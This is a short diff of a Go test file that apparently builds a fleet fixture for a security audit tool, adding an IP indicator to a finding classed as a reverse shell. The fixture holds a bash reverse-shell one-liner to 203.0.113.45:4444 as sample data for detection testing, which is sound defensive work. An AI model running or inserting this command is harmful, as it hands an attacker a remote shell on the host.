@@ -36,6 +36,7 @@ func testFleet() *fleet.Fleet {
 	d := func(c string) string { return "sha256:" + strings.Repeat(c, 64) }
 	implant := f("STRATA-RS-001", audit.CategoryReverseShell, audit.Critical, 1, "/usr/local/bin/.sync", "0badc0de",
 		"bash -i >& /dev/tcp/203.0.113.45/4444")
+	implant.Indicators = []audit.Indicator{{Kind: audit.IndicatorIP, Value: "203.0.113.45"}}
 	members := []fleet.Member{
 		m("trusted-base", []string{d("a"), d("b")}, audit.VerdictClean),
 		m("web", []string{d("a"), d("b"), d("c")}, audit.VerdictClean),
